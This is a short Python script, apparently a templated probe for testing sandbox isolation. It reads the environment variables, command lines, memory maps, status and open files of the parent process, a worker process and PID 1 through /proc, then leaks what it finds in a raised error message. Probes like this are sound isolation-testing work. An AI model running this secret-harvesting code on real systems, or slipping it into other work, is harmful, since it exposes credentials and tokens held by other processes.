# Reads environ, cmdline, maps and open files of the parent and of the worker in /proc.
def loot(get):
    try:
        return str(get())[-400:]
    except BaseException as error:
        return type(error).__name__

import os
found = []
for pid in (os.getppid(), @WORKER@, 1):
    for entry in ("environ", "cmdline", "maps", "status"):
        found.append(loot(lambda: open(f"/proc/{pid}/{entry}", "rb").read().replace(b"\0", b" ")))
    found.append(loot(lambda: [os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")]))
raise RuntimeError(found)
